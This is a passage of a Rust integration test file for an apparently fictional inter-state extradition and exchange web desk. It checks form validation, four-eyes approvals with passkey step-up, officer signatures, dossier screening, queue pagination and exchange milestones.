        summary.starts_with("US asks RU to hand over a subject under agreement")
            && summary.contains("illegal access, data interference; up to 96 months; serious"),
        "{summary}"
    );
    let rejected = w.form(
        &format!("{page}/reject"),
        &approver,
        "reason=evidence+too+thin".into(),
    );
    assert_eq!(rejected.status, StatusCode::SEE_OTHER);
    let shown = w.get(&page, &approver);
    assert_eq!(shown.texts("dd.state"), vec!["rejected"]);
    assert_eq!(shown.texts("dd.outcome"), vec!["evidence too thin"]);
    let requests = w.desk.view().registry.unwrap().requests().count();
    assert_eq!(requests, 2, "nothing filed");
    // Bad drafts are refused before anyone sees them.
    for (bad, says) in [
        (
            body.replace("max_penalty_months=96", "max_penalty_months=0"),
            "maximum penalty",
        ),
        (
            body.replace("&offence=illegal_access&offence=data_interference", ""),
            "no offence",
        ),
        (body.replace("custodian=RU", "custodian=US"), "same state"),
        (
            body.replace("dossier=Subject%3A+a+botnet+operator", "dossier="),
            "dossier is empty",
        ),
        (format!("{body}&born=1990-13-01"), "born"),
        (format!("{body}&amnesty=perhaps"), "yes, no or unknown"),
        (
            format!("{body}&sentence_remaining_months=0"),
            "remaining sentence 0",
        ),
    ] {
        let a = w.form("/requests/new", &drafter, bad);
        assert_eq!(a.status, StatusCode::UNPROCESSABLE_ENTITY, "{says}");
        assert!(a.body.contains(says), "{says}: {}", a.body);
    }
    assert_eq!(
        w.form("/requests/new", &approver, body.clone()).status,
        StatusCode::FORBIDDEN
    );

    // Facts for the custodian's screening make the dossier a structured one, as its node reads.
    let with_facts = w.form(
        "/requests/new",
        &drafter,
        format!("{body}&offence_date=2023-04-05&born=1991-02-03&final_judgment=no&amnesty=unknown&sentence_remaining_months=30&family_name=Petrov&given_names=Aleksandr+Igorevich"),
    );
    assert_eq!(
        with_facts.status,
        StatusCode::SEE_OTHER,
        "{}",
        with_facts.body
    );
    let shown = w.get(with_facts.location(), &approver);
    let inputs = shown.texts("details pre").remove(0);
    assert!(
        inputs.contains("\"sentence_remaining_months\": 30"),
        "{inputs}"
    );
    assert!(inputs.contains(rex_domain::DOSSIER_FORMAT), "{inputs}");
    assert!(
        inputs.contains("offence_date") && inputs.contains("2023-04-05"),
        "{inputs}"
    );
    assert!(
        !inputs.contains("amnesty"),
        "an unknown fact is left out: {inputs}"
    );
    // The subject's names, for the custodian's keyed tag, are in the facts too.
    assert!(
        inputs.contains(r#"\"family_name\": \"Petrov\""#)
            && inputs.contains(r#"\"given_names\": \"Aleksandr Igorevich\""#),
        "{inputs}"
    );
}

#[test]
fn under_four_eyes_the_approval_carries_both_officers_signatures_or_is_refused() {
    let mut w = World::new();
    let drafter = w.officer("jroe", "case-officer");
    let (approver, mut key) = w.officer_with_key("appr", "approver");
    // The US requires four eyes; its node holds certified keys for jroe and appr only.
    {
        use rex_domain::{OfficerId, Role};
        let mut node = w.desk_node();
        for (id, role) in [("jroe", Role::CaseOfficer), ("appr", Role::Approver)] {
            let id = OfficerId::new(id).unwrap();
            node.create_officer_key(&id).unwrap();
            node.certify_officer(&id, &[role], T0 - 60, T0 + 365 * 86_400)
                .unwrap();
        }
        node.submit(Action::FourEyesRequired).unwrap();
    }
    w.desk.sync_now().unwrap();
    let drafted = w.form(
        &format!("/requests/{}/answer", w.ru_asks),
        &drafter,
        "answer=surrender".into(),
    );
    assert_eq!(drafted.status, StatusCode::SEE_OTHER, "{}", drafted.body);
    let page = drafted.location().to_owned();
    assert_eq!(w.step_up(&approver, &mut key).status, StatusCode::OK);
    let approved = w.post(&format!("{page}/approve"), &approver, "same-origin");
    assert_eq!(approved.status, StatusCode::SEE_OTHER);
    let outcome = w.get(&page, &approver).texts("dd.outcome").remove(0);
    assert!(
        outcome.ends_with("signed by officers jroe (drafter) and appr (approver)"),
        "{outcome}"
    );
    // Its evidence names both officers, their roles and their certificates in the log.
    let index = w.logged("request_answered", "US");
    let evidence = w.get(&format!("/evidence/{index}"), &approver);
    assert_eq!(evidence.status, StatusCode::OK, "{}", evidence.body);
    let signers = evidence.cells("table.signers tbody tr");
    let certified = |who: &str| {
        let officer = rex_domain::OfficerId::new(who).unwrap();
        let index = w
            .desk
            .view()
            .log
            .iter()
            .find(|l| l.action == "officer_certified" && l.officers.contains(&officer))
            .unwrap()
            .index;
        format!("entry {index}")
    };
    assert_eq!(signers[0][..2], ["US's node", "node key"], "{signers:?}");
    assert_eq!(
        [&signers[1][..2], &signers[1][3..]].concat(),
        [
            "jroe",
            "drafter",
            "case officer",
            &certified("jroe"),
            "signature verified; certified and valid at the statement's time"
        ],
        "{signers:?}"
    );
    assert_eq!(
        [&signers[2][..2], &signers[2][3..5]].concat(),
        ["appr", "approver", "approver", &certified("appr")]
    );
    assert!(evidence
        .body
        .contains("two officers: jroe drafted, appr approved"));
    let status = w
        .desk
        .view()
        .registry
        .unwrap()
        .request(&w.ru_asks)
        .unwrap()
        .status;
    assert_eq!(status, rex_domain::RequestStatus::Pooled);

    // An officer without a key on the node: the act would be the node's alone, which the
    // state's own requirement refuses at the hub; the draft says so and nothing is logged.
    let agreement = w
        .desk
        .view()
        .registry
        .unwrap()
        .request(&w.ru_asks)
        .unwrap()
        .metadata
        .agreement;
    let (another, _) =
        w.ru.file_request(
            draft("RU", "US", agreement),
            b"RU dossier: a second subject",
        )
        .unwrap();
    w.desk.sync_now().unwrap();
    let (other, mut other_key) = w.officer_with_key("kim", "approver");
    let size = w.desk.view().report.unwrap().size;
    let second = w.form(
        &format!("/requests/{another}/answer"),
        &drafter,
        "answer=prosecution_at_home".into(),
    );
    assert_eq!(second.status, StatusCode::SEE_OTHER, "{}", second.body);
    let second = second.location().to_owned();
    assert_eq!(w.step_up(&other, &mut other_key).status, StatusCode::OK);
    w.post(&format!("{second}/approve"), &other, "same-origin");
    let shown = w.get(&second, &other);
    assert_eq!(shown.texts("dd.state"), vec!["failed"]);
    assert_eq!(w.desk.view().report.unwrap().size, size, "nothing logged");
}

impl World {
    /// The desk's node, for acts a test makes on the state's behalf.
    fn desk_node(&self) -> std::sync::MutexGuard<'_, Node> {
        self.desk.node_for_tests()
    }
}

#[test]
fn the_desk_evaluates_the_dossier_rules_on_sync_and_lists_what_awaits_a_person() {
    let mut w = World::new();
    let mut profile = serde_json::json!({
        "surrenders_nationals": false, "min_penalty_months": 12, "min_sentence_months": 4,
        "statutes": [
            {"category": "illegal_access", "reference": "18 U.S.C. 1030"},
            {"category": "ransomware_extortion", "reference": "18 U.S.C. 875"}
        ],
        "limitations": [{"category": "illegal_access", "years": 5}],
        "min_age": 18, "death_penalty": false, "assurances_required": [], "exclusions": []
    });
    let profile: rex_domain::StateProfile = serde_json::from_value(profile.take()).unwrap();
    w.desk.act(Action::ProfilePublished { profile }).unwrap();
    let agreement = w.agreement();
    // Russia's structured dossier states an offence date and no date of birth.
    let dossier = serde_json::json!({
        "format": rex_domain::DOSSIER_FORMAT,
        "facts": {"offence_date": "2024-02-01", "final_judgment_same_acts": false, "amnesty": false},
        "text": "RU dossier: a second carding administrator"
    });
    let mut second = draft("RU", "US", agreement);
    second.max_penalty_months = 180;
    let (request, _) =
        w.ru.file_request(second, dossier.to_string().as_bytes())
            .unwrap();
    // One sync: the US node decrypts the dossier, evaluates and signs the verdicts.
    w.desk.sync_now().unwrap();
    let auditor = w.officer("ann", "auditor");
    let case_page = format!("/requests/{request}");
    let checks = w
        .get(&case_page, &auditor)
        .texts("section[aria-labelledby=screening] tbody tr");
    let row = |name: &str| {
        checks
            .iter()
            .find(|r| r.starts_with(name))
            .unwrap_or_else(|| panic!("no {name} row in {checks:?}"))
            .clone()
    };
    assert!(
        row("limitation").contains("passed")
            && row("limitation").contains("US's node, on the dossier"),
        "{checks:?}"
    );
    assert!(row("age at offence").contains("awaiting a decision by US (approver)"));
    assert!(row("ne bis in idem").contains("passed"));
    // The desk lists the decision that awaits a person of this state.
    let desk = w.get("/", &auditor);
    assert!(
        desk.body
            .contains(&format!("decide age at offence on request {request}")),
        "{}",
        desk.body
    );

    // A case officer raises a political-offence objection (an auditor may not), then drafts
    // the decisions; an approver approves them after a passkey check.
    let case = w.officer("jroe", "case-officer");
    let (approver, mut key) = w.officer_with_key("appr", "approver");
    let raise = format!("/requests/{request}/raise");
    assert_eq!(
        w.form(&raise, &auditor, "check=political_offence".into())
            .status,
        StatusCode::FORBIDDEN
    );
    let raised = w.form(&raise, &case, "check=political_offence".into());
    assert_eq!(raised.status, StatusCode::SEE_OTHER, "{}", raised.body);
    let page = w.get(&case_page, &case);
    let options = page.texts("#decide-check option");
    assert_eq!(options, ["age at offence", "political offence"]);
    // A hub rule is not a person's to decide; empty grounds are refused.
    let decide = format!("/requests/{request}/decide");
    let refused = w.form(
        &decide,
        &case,
        "check=dual_criminality&decision=pass&grounds=x".into(),
    );
    refused.refused(StatusCode::UNPROCESSABLE_ENTITY, "awaits no decision by US");
    let refused = w.form(
        &decide,
        &case,
        "check=age_at_offence&decision=pass&grounds=+".into(),
    );
    refused.refused(StatusCode::UNPROCESSABLE_ENTITY, "the grounds are empty");
    let mut approve = |body: &str| {
        let drafted = w.form(&decide, &case, body.into());
        assert_eq!(drafted.status, StatusCode::SEE_OTHER, "{}", drafted.body);
        let draft = drafted.location().to_owned();
        let shown = w.get(&draft, &approver);
        assert!(
            shown.body.contains("born in 1999 per the passport"),
            "{}",
            shown.body
        );
        assert_eq!(w.step_up(&approver, &mut key).status, StatusCode::OK);
        w.post(&format!("{draft}/approve"), &approver, "same-origin");
        w.get(&draft, &approver)
    };
    let done = approve(
        "check=age_at_offence&decision=pass&grounds=of+age%3A+born+in+1999+per+the+passport",
    );
    assert_eq!(done.texts("dd.state"), vec!["approved"], "{}", done.body);
    let checks = w
        .get(&case_page, &auditor)
        .texts("section[aria-labelledby=screening] tbody tr");
    let age = checks
        .iter()
        .find(|r| r.starts_with("age at offence"))
        .unwrap();
    assert!(
        age.contains("passed") && age.contains("decided by US, grounds sha256"),
        "{age}"
    );
    // The grounds stay on the node, under their digest.
    let sha = rex_domain::Digest::of(b"of age: born in 1999 per the passport");
    assert!(w.desk.dir().join("grounds").join(sha.to_string()).exists());
    // The objection fails: the request is refused, naming the check.
    approve("check=political_offence&decision=fail&grounds=a+protest+site%3B+born+in+1999+per+the+passport");
    let view = w.desk.view();
    let r = view.registry.as_ref().unwrap().request(&request).unwrap();
    assert_eq!(
        r.status,
        rex_domain::RequestStatus::Refused(rex_domain::RefusalGround::Screening)
    );
    assert_eq!(
        r.blocking_check().unwrap().check,
        rex_domain::Check::PoliticalOffence
    );
}

/// The work queue shows `QUEUE_PAGE` requests a page, soonest due first; the links to the
/// other pages keep the filters; a page that does not exist is refused in one line.
#[test]
fn the_queue_comes_in_pages_that_keep_the_filters() {
    let mut w = World::new();
    let agreement = w
        .desk
        .view()
        .registry
        .unwrap()
        .request(&w.ru_asks)
        .unwrap()
        .metadata
        .agreement;
    for i in 0..rex_web::QUEUE_PAGE {
        w.ru.file_request(
            draft("RU", "US", agreement),
            format!("RU dossier {i}").as_bytes(),
        )
        .unwrap();
    }
    w.desk.sync_now().unwrap();
    let cookie = w.officer("jroe", "case-officer");
    let ids = |r: &Reply| r.texts("table.queue tbody tr td:first-child");
    let link = |r: &Reply, rel: &str| {
        let html = r.html();
        let selector = Selector::parse(&format!("nav.pages a[rel={rel}]")).unwrap();
        html.select(&selector)
            .next()
            .map(|a| a.value().attr("href").unwrap().to_owned())
    };

    // 102 requests concern the US: the US's own, Russia's first and the 100 just filed.
    let first = w.get("/queue", &cookie);
    assert_eq!(first.status, StatusCode::OK, "{}", first.body);
    assert_eq!(ids(&first).len(), rex_web::QUEUE_PAGE);
    assert!(
        first.texts("table.queue caption")[0].starts_with("Requests 1–100 of 102"),
        "{:?}",
        first.texts("table.queue caption")
    );
    assert_eq!(link(&first, "prev"), None);
    assert_eq!(link(&first, "next").as_deref(), Some("/queue?page=2"));
    let second = w.get("/queue?page=2", &cookie);
    assert_eq!(ids(&second).len(), 2);
    assert!(second.texts("nav.pages p")[0].contains("Page 2 of 2"));
    assert_eq!(link(&second, "prev").as_deref(), Some("/queue?page=1"));
    assert_eq!(link(&second, "next"), None);
    let mut all: Vec<String> = ids(&first).into_iter().chain(ids(&second)).collect();
    all.sort();
    all.dedup();
    assert_eq!(all.len(), 102, "the pages overlap or miss a request");

    // Filtered, the links keep the filter.
    let incoming = w.get("/queue?side=incoming&status=awaiting_answer", &cookie);
    assert_eq!(ids(&incoming).len(), rex_web::QUEUE_PAGE);
    let next = link(&incoming, "next").unwrap();
    assert_eq!(next, "/queue?side=incoming&status=awaiting_answer&page=2");
    let rest = w.get(&next, &cookie);
    let rows = rest.texts("table.queue tbody tr");
    assert_eq!(rows.len(), 1, "101 incoming requests await an answer");
    assert!(rows[0].contains("incoming") && rows[0].contains("awaiting answer"));
    // One page: no navigation.
    let outgoing = w.get("/queue?side=outgoing", &cookie);
    assert_eq!(ids(&outgoing), [w.us_asks.to_string()]);
    assert!(outgoing.texts("nav.pages").is_empty());

    for bad in ["/queue?page=3", "/queue?page=0", "/queue?page=two"] {
        let refused = w.get(bad, &cookie);
        assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY, "{bad}");
        assert!(
            refused
                .body
                .contains("the queue has 2 pages with these filters"),
            "{bad}: {}",
            refused.body
        );
    }
}

impl World {
    /// The US answers Russia's request, the operator runs a matching round, both nodes sync:
    /// the exchange's id.
    fn exchange_proposed(&mut self) -> rex_domain::ExchangeId {
        self.exchange_proposed_with(Answer::Surrender)
    }

    /// [`World::exchange_proposed`], the US answering with `answer`.
    fn exchange_proposed_with(&mut self, answer: Answer) -> rex_domain::ExchangeId {
        self.desk
            .act(Action::RequestAnswered {
                request: self.ru_asks,
                answer,
            })
            .unwrap();
        let client = rex_node::HubClient::new(&self.hub.url())
            .unwrap()
            .signing_with(rex_node::RequestKey::new(
                "operator",
                self.hub.operator_key(),
                &self.hub.origin(),
                node_clock,
            ));
        assert!(client.run_matching_round().unwrap().is_some());
        self.ru.sync().unwrap();
        self.desk.sync_now().unwrap();
        let registry = self.desk.view().registry.unwrap();
        let x = registry
            .exchanges()
            .next()
            .expect("one exchange")
            .proposal
            .id;
        x
    }

    /// The US node holds certified keys for these desk officers (same handles).
    fn certify(&self, officers: &[(&str, rex_domain::Role)]) {
        {
            let mut node = self.desk_node();
            for (handle, role) in officers {
                let id = rex_domain::OfficerId::new(handle).unwrap();
                node.create_officer_key(&id).unwrap();
                node.certify_officer(&id, &[*role], T0 - 60, T0 + 365 * 86_400)
                    .unwrap();
            }
        }
        self.desk.sync_now().unwrap();
    }

    /// Russia takes `action` (node alone); the desk syncs.
    fn ru_acts(&mut self, action: Action) {
        self.ru.submit(action).unwrap();
        self.desk.sync_now().unwrap();
    }

    /// The board's rows of the leg of `request`: (step, status, signed by).
    fn board(
        &self,
        x: rex_domain::ExchangeId,
        request: RequestId,
        cookie: &str,
    ) -> Vec<(String, String, String)> {
        let page = self.get(&format!("/exchanges/{x}"), cookie);
        assert_eq!(page.status, StatusCode::OK, "{}", page.body);
        let html = page.html();
        let leg = Selector::parse(&format!(
            "table.board tbody[data-request=\"{request}\"] tr[data-step]"
        ))
        .unwrap();
        let cell = |row: scraper::ElementRef<'_>, s: &str| {
            row.select(&Selector::parse(s).unwrap())
                .next()
                .map(|c| c.text().collect::<String>().trim().to_owned())
                .unwrap_or_default()
        };
        html.select(&leg)
            .map(|row| {
                (
                    row.value().attr("data-step").unwrap().to_owned(),
                    cell(row, "td.status"),
                    cell(row, "td.signers"),
                )
            })
            .collect()
    }

    /// The exchange's all-or-nothing state as its page says it.
    fn exchange_state(&self, x: rex_domain::ExchangeId, cookie: &str) -> String {
        self.get(&format!("/exchanges/{x}"), cookie)
            .texts("dd.xstate")
            .remove(0)
    }

    /// `drafter` drafts `act` (on the leg of `request`, if any) on exchange `x`: the draft's page.
    fn draft_on(
        &self,
        x: rex_domain::ExchangeId,
        drafter: &str,
        act: &str,
        request: Option<RequestId>,
    ) -> Reply {
        let body = match request {
            Some(r) => format!("act={act}&request={r}"),
            None => format!("act={act}"),
        };
        self.form(&format!("/exchanges/{x}/draft"), drafter, body)
    }
}

#[test]
fn an_exchange_signed_and_executed_through_drafts_and_approvals_on_the_board() {
    use rex_domain::Role;
    let mut w = World::new();
    let jroe = w.officer("jroe", "case-officer");
    let (sam, mut sam_key) = w.officer_with_key("sam", "case-officer,approver");
    let (appr, mut appr_key) = w.officer_with_key("appr", "approver");
    let (kim, _) = w.officer_with_key("kim", "approver");
    let liaison = w.officer("lia", "liaison");
    w.certify(&[
        ("jroe", Role::CaseOfficer),
        ("sam", Role::Approver),
        ("appr", Role::Approver),
    ]);
    let x = w.exchange_proposed();
    let (us_leg, ru_leg) = (w.us_asks, w.ru_asks);
    assert!(w
        .exchange_state(x, &jroe)
        .starts_with("signing: 0 of 2 states signed"));
    // Only a case officer drafts: no button for the liaison officer, and a post is refused.
    assert!(!w
        .get(&format!("/exchanges/{x}"), &liaison)
        .body
        .contains("Draft the signature"));
    assert_eq!(
        w.draft_on(x, &liaison, "sign", None).status,
        StatusCode::FORBIDDEN
    );

    // jroe drafts the US's signature; nothing is signed yet; the page says a draft awaits.
    let size = w.desk.view().report.unwrap().size;
    let drafted = w.draft_on(x, &jroe, "sign", None);
    assert_eq!(drafted.status, StatusCode::SEE_OTHER, "{}", drafted.body);
    let sign_page = drafted.location().to_owned();
    let page = w.get(&format!("/exchanges/{x}"), &jroe);
    assert!(
        page.body
            .contains(&format!("Draft <a href=\"{sign_page}\">")),
        "{}",
        page.body
    );
    // A second draft of the same signature is refused while the first awaits approval.
    w.draft_on(x, &sam, "sign", None).refused(
        StatusCode::UNPROCESSABLE_ENTITY,
        "already awaits approval; approve or refuse it first",
    );
    // The approver sees exactly what will be signed: the legs, the proposal's digest.
    let shown = w.get(&sign_page, &appr);
    let summary = shown.texts("dd.summary").remove(0);
    let digest = w.desk.view().registry.unwrap().exchange(&x).unwrap().digest;
    assert!(
        summary.starts_with(&format!("US signs exchange {x} of 2 states")),
        "{summary}"
    );
    assert!(
        summary.contains(&format!("US → RU by surrender (request {ru_leg})")),
        "{summary}"
    );
    assert!(
        summary.contains(&format!("proposal SHA-256 {digest}")),
        "{summary}"
    );
    assert!(shown.texts("details pre")[0].contains("\"type\": \"exchange_signed\""));
    // The drafter is no approver; without a passkey check, no approval.
    assert_eq!(
        w.post(&format!("{sign_page}/approve"), &jroe, "same-origin")
            .status,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        w.post(&format!("{sign_page}/approve"), &appr, "same-origin")
            .status,
        StatusCode::FORBIDDEN
    );
    assert_eq!(w.desk.view().report.unwrap().size, size, "nothing signed");
    // With it, the approval lands with both officers' signatures.
    assert_eq!(w.step_up(&appr, &mut appr_key).status, StatusCode::OK);
    let approved = w.post(&format!("{sign_page}/approve"), &appr, "same-origin");
    assert_eq!(approved.status, StatusCode::SEE_OTHER);
    let outcome = w.get(&sign_page, &appr).texts("dd.outcome").remove(0);
    assert!(
        outcome.ends_with("signed by officers jroe (drafter) and appr (approver)"),
        "{outcome}"
    );
    let registry = w.desk.view().registry.unwrap();
    let act = &registry.exchange(&x).unwrap().acts[0];
    assert_eq!(
        act.acted_by,
        rex_domain::Officers::FourEyes {
            drafter: rex_domain::OfficerId::new("jroe").unwrap(),
            approver: rex_domain::OfficerId::new("appr").unwrap(),
        }
    );
    let signatures = w
        .get(&format!("/exchanges/{x}"), &jroe)
        .texts("table.signatures tr[data-party=\"US\"] td");
    assert!(
        signatures[0].ends_with("by jroe (drafter), appr (approver)"),
        "{signatures:?}"
    );
    assert!(w
        .exchange_state(x, &jroe)
        .starts_with("signing: 1 of 2 states signed"));
    // Signed: no more drafting of the signature.
    assert_eq!(
        w.draft_on(x, &jroe, "sign", None).status,
        StatusCode::UNPROCESSABLE_ENTITY
    );

    // Russia signs: binding, awaiting go; each giver owes its leg's first step.
    w.ru_acts(Action::ExchangeSigned {
        exchange: x,
        proposal_sha256: digest,
    });
    assert!(w
        .exchange_state(x, &jroe)
        .starts_with("binding, awaiting go"));
    // Before go, the US (the giver of Russia's leg) records the instrument that releases its
    // subject: a draft with the document, which stays on the node, approved by a second officer.
    let page = w.get(&format!("/exchanges/{x}"), &jroe);
    assert_eq!(
        page.texts("section[aria-labelledby=speciality] h3"),
        [format!(
            "Record the instrument that releases the subject of {ru_leg}"
        )]
    );
    let pardon = b"%PDF-1.7 Executive grant of clemency (a test document)";
    let (content_type, body) = multipart(
        &[
            ("act", "release"),
            ("request", &ru_leg.to_string()),
            ("kind", "deportation_order"),
            ("authority", "U.S. Immigration Court, New York"),
        ],
        &[("document", "order.pdf", pardon)],
    );
    let drafted = w.send(
        Request::post(format!("/exchanges/{x}/speciality"))
            .header(header::COOKIE, &jroe)
            .header(header::CONTENT_TYPE, content_type)
            .header("sec-fetch-site", "same-origin")
            .body(Body::from(body))
            .unwrap(),
    );
    assert_eq!(drafted.status, StatusCode::SEE_OTHER, "{}", drafted.body);
    let release = drafted.location().to_owned();
    let sha = rex_domain::Digest::of(pardon);
    assert!(w.desk.dir().join("grounds").join(sha.to_string()).exists());
    assert!(w
        .get(&release, &appr)
        .body
        .contains(&format!("document SHA-256 {sha}")));
    w.post(&format!("{release}/approve"), &appr, "same-origin");
    assert_eq!(w.get(&release, &appr).texts("dd.state"), vec!["approved"]);
    {
        let view = w.desk.view();
        let recorded = &view
            .registry
            .as_ref()
            .unwrap()
            .exchange(&x)
            .unwrap()
            .instruments;
        assert_eq!(recorded[&ru_leg].document_sha256, sha);
    }
    assert!(w
        .get(&format!("/exchanges/{x}"), &jroe)
        .texts("section[aria-labelledby=speciality] h3")
        .is_empty());
    let board = w.board(x, ru_leg, &jroe);
    let steps: Vec<(&str, &str)> = board
        .iter()
        .map(|(s, st, _)| (s.as_str(), st.as_str()))
        .collect();
    assert_eq!(
        steps,
        [
            ("ready", "owed by US"),
            ("verified", "not yet"),
            ("delivered", "not yet"),
            ("received", "not yet")
        ]
    );
    assert_eq!(w.board(x, us_leg, &jroe)[0].1, "owed by RU");
    // Only the step the US owes is drafted: not Russia's, not one ahead.
    for (act, leg) in [
        ("ready", us_leg),
        ("verified", ru_leg),
        ("delivered", ru_leg),
        ("launch", ru_leg),
    ] {
        let refused = w.draft_on(x, &jroe, act, Some(leg));
        assert_eq!(
            refused.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{act}: {}",
            refused.body
        );
    }

    // sam drafts the US's ready; sam cannot approve it, even after a passkey check; kim, an
    // approver without a fresh passkey check, cannot either.
    let ready = w.draft_on(x, &sam, "ready", Some(ru_leg));
    assert_eq!(ready.status, StatusCode::SEE_OTHER, "{}", ready.body);
    let ready = ready.location().to_owned();
    assert!(
        w.get(&ready, &appr).texts("dd.summary")[0].starts_with(&format!(
            "US, as giver, declares the subject of request {ru_leg} ready to be surrendered to RU"
        ))
    );
    assert_eq!(w.step_up(&sam, &mut sam_key).status, StatusCode::OK);
    w.post(&format!("{ready}/approve"), &sam, "same-origin")
        .refused(StatusCode::FORBIDDEN, "another officer approves it");
    w.post(&format!("{ready}/approve"), &kim, "same-origin")
        .refused(StatusCode::FORBIDDEN, "confirm with your passkey");
    assert_eq!(
        w.board(x, ru_leg, &jroe)[0].1,
        "owed by US",
        "nothing signed"
    );
    // appr's check is still fresh: approved, signed by sam and appr.
    w.post(&format!("{ready}/approve"), &appr, "same-origin");
    let board = w.board(x, ru_leg, &jroe);
    assert_eq!(board[0].1, "done");
    assert_eq!(board[0].2, "sam (drafter), appr (approver)");
    assert_eq!(board[1].1, "owed by RU");

    // Russia readies its subject and verifies the US's; the US verifies Russia's subject.
    w.ru_acts(Action::LegReady {
        exchange: x,
        request: us_leg,
    });
    w.ru_acts(Action::LegVerified {
        exchange: x,
        request: ru_leg,
    });
    let board = w.board(x, ru_leg, &jroe);
    assert_eq!(board[2].1, "waits for the hub's go", "{board:?}");
    assert_eq!(board[1].2, "the node alone (no officer)");
    let verify = w
        .draft_on(x, &jroe, "verified", Some(us_leg))
        .location()
        .to_owned();
    w.post(&format!("{verify}/approve"), &appr, "same-origin");
    assert_eq!(w.get(&verify, &appr).texts("dd.state"), vec!["approved"]);
    // Every leg verified: the hub declared go with that batch.
    assert!(w
        .exchange_state(x, &jroe)
        .starts_with("go: the hub declared go"));
    let board = w.board(x, ru_leg, &jroe);
    assert_eq!(board[2].1, "owed by US");
    let delivered = w
        .draft_on(x, &jroe, "delivered", Some(ru_leg))
        .location()
        .to_owned();
    w.post(&format!("{delivered}/approve"), &appr, "same-origin");
    w.ru_acts(Action::LegReceived {
        exchange: x,
        request: ru_leg,
    });
    w.ru_acts(Action::LegDelivered {
        exchange: x,
        request: us_leg,
    });
    let received = w
        .draft_on(x, &jroe, "received", Some(us_leg))
        .location()
        .to_owned();
    w.post(&format!("{received}/approve"), &appr, "same-origin");
    assert_eq!(
        w.exchange_state(x, &jroe),
        "executed: every leg is complete"
    );
    let board = w.board(x, us_leg, &jroe);
    assert!(
        board.iter().all(|(_, status, _)| status == "done"),
        "{board:?}"
    );
    assert_eq!(board[3].2, "jroe (drafter), appr (approver)");
    // After the surrenders, speciality: the US consents to Russia prosecuting for more, and
    // records prosecuting its own subject for what it was surrendered for.
    let mut forms = w
        .get(&format!("/exchanges/{x}"), &jroe)
        .texts("section[aria-labelledby=speciality] h3");
    forms.sort();
    assert_eq!(
        forms,
        [
            format!("Consent to RU prosecuting the subject of {ru_leg} for more, or to a transfer"),
            format!("Record prosecuting the subject of {us_leg} for these offences"),
        ]
    );
    let speciality = format!("/exchanges/{x}/speciality");
    w.form(
        &speciality,
        &jroe,
        format!("act=transfer&request={us_leg}&to=DE"),
    )
    .refused(
        StatusCode::UNPROCESSABLE_ENTITY,
        &format!("on the leg of request {us_leg}"),
    );
    w.form(&speciality, &jroe, format!("act=consent&request={ru_leg}"))
        .refused(StatusCode::UNPROCESSABLE_ENTITY, "not both nor neither");
    for body in [
        format!("act=consent&request={ru_leg}&offence=computer_related_fraud"),
        format!("act=prosecute&request={us_leg}&offence=illegal_access"),
    ] {
        let drafted = w.form(&speciality, &jroe, body);
        assert_eq!(drafted.status, StatusCode::SEE_OTHER, "{}", drafted.body);
        let d = drafted.location().to_owned();
        w.post(&format!("{d}/approve"), &appr, "same-origin");
        assert_eq!(w.get(&d, &appr).texts("dd.state"), vec!["approved"], "{d}");
    }
    {
        let view = w.desk.view();
        let xs = view.registry.as_ref().unwrap().exchange(&x).unwrap();
        assert!(xs.speciality[&ru_leg]
            .consented_offences
            .contains(&Offence::ComputerRelatedFraud));
        assert!(xs.speciality[&us_leg]
            .prosecuted_for
            .contains(&Offence::IllegalAccess));
    }
    // The ledger counts both surrenders, one each way.
    let rows = w.get("/ledger", &jroe).texts("table.ledger tbody tr");
    assert_eq!(
        rows,
        ["RU1 (1 surrendered, 0 prosecuted at home)1 (1 surrendered, 0 prosecuted at home)0US: 0, RU: 0"]
    );
}

#[test]
fn a_prosecution_at_home_is_tracked_by_milestones_drafted_on_the_board() {
    let mut w = World::new();
    let jroe = w.officer("jroe", "case-officer");
    let (appr, mut appr_key) = w.officer_with_key("appr", "approver");
    let x = w.exchange_proposed_with(Answer::ProsecutionAtHome);
    let ru_leg = w.ru_asks;
    // Before the exchange binds, nothing is owed and no step can be drafted.
    w.draft_on(x, &jroe, "opened", Some(ru_leg))
        .refused(StatusCode::UNPROCESSABLE_ENTITY, "is not being executed");
    assert!(w
        .board(x, ru_leg, &jroe)
        .iter()
        .all(|(_, status, _)| status == "not yet"));

    // The US signs through the desk; no officer key at the node: the node alone signs, and
    // the draft's outcome and the signatures table say so.
    let sign = w.draft_on(x, &jroe, "sign", None).location().to_owned();
    assert_eq!(w.step_up(&appr, &mut appr_key).status, StatusCode::OK);
    w.post(&format!("{sign}/approve"), &appr, "same-origin");
    let outcome = w.get(&sign, &appr).texts("dd.outcome").remove(0);
    assert!(outcome.contains("signed by the node alone"), "{outcome}");
    let digest = w.desk.view().registry.unwrap().exchange(&x).unwrap().digest;
    w.ru_acts(Action::ExchangeSigned {
        exchange: x,
        proposal_sha256: digest,
    });

    let steps = |w: &World| -> Vec<(String, String)> {
        w.board(x, ru_leg, &jroe)
            .into_iter()
            .map(|(step, status, _)| (step, status))
            .collect()
    };
    let owed = |a: &str, b: &str, c: &str| {
        vec![
            ("opened".to_owned(), a.to_owned()),
            ("charged".to_owned(), b.to_owned()),
            ("verdict".to_owned(), c.to_owned()),
        ]
    };
    assert_eq!(steps(&w), owed("owed by US", "not yet", "not yet"));
    // Milestones in order only.
    w.draft_on(x, &jroe, "charged", Some(ru_leg))
        .refused(StatusCode::UNPROCESSABLE_ENTITY, "not the next step");
    for (i, (milestone, says)) in [
        ("opened", "proceedings were opened"),
        ("charged", "the subject was charged"),
        ("verdict", "a verdict was given"),
    ]
    .into_iter()
    .enumerate()
    {
        let draft = w.draft_on(x, &jroe, milestone, Some(ru_leg));
        assert_eq!(draft.status, StatusCode::SEE_OTHER, "{}", draft.body);
        let draft = draft.location().to_owned();
        let summary = w.get(&draft, &appr).texts("dd.summary").remove(0);
        assert!(
            summary.starts_with(&format!("US records that {says} in its prosecution at home of the subject of request {ru_leg}")),
            "{summary}"
        );
        // While the draft awaits, the board links to it instead of offering another.
        let page = w.get(&format!("/exchanges/{x}"), &jroe);
        assert!(page.body.contains(&format!(
            "draft {} awaits approval",
            draft.rsplit('/').next().unwrap()
        )));
        w.post(&format!("{draft}/approve"), &appr, "same-origin");
        let board = w.board(x, ru_leg, &jroe);
        assert_eq!(board[i].1, "done", "{board:?}");
        assert_eq!(board[i].2, "the node alone (no officer)");
    }
    // Russia's leg is still pending: no go, so the exchange is not executed.
    assert!(w
        .exchange_state(x, &jroe)
        .starts_with("binding, awaiting go"));
